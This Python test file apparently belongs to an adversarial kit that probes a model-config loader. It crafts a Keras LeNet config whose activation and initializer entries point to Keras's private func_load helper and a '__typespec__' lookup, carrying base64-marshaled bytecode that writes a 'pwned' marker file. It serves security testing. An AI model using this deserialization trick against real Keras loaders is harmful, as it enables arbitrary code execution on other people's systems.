"""Sends the reference's config with objects from Keras's private modules: a function that
unmarshals bytecode (keras.src.utils.python_utils.func_load) as an activation, and a
'__typespec__' that asks Keras to look up any name in any keras module."""
import base64
import marshal

import adversarial_kit as kit
from _honest import build_lenet as _build_lenet
from _honest import layer_output_shapes  # noqa: F401

MARK = kit.pwned_path("keras-internals")


def _payload(x):
    open(MARK, "w").write("pwned")
    return x


def build_lenet():
    config = kit.config_of(_build_lenet())
    code = base64.b64encode(marshal.dumps(_payload.__code__)).decode()
    denses = [layer for layer in kit.layers_of(config) if layer["class_name"] == "Dense"]
    denses[0]["config"]["activation"] = {"module": "keras.src.utils.python_utils", "class_name": "func_load",
                                         "registered_name": None, "config": {"code": code}}
    denses[1]["config"]["kernel_initializer"] = {"module": "keras.src.utils.python_utils", "class_name": "__typespec__",
                                                 "spec_name": "func_load", "registered_name": None, "config": [code]}
    return kit.send_config(config)
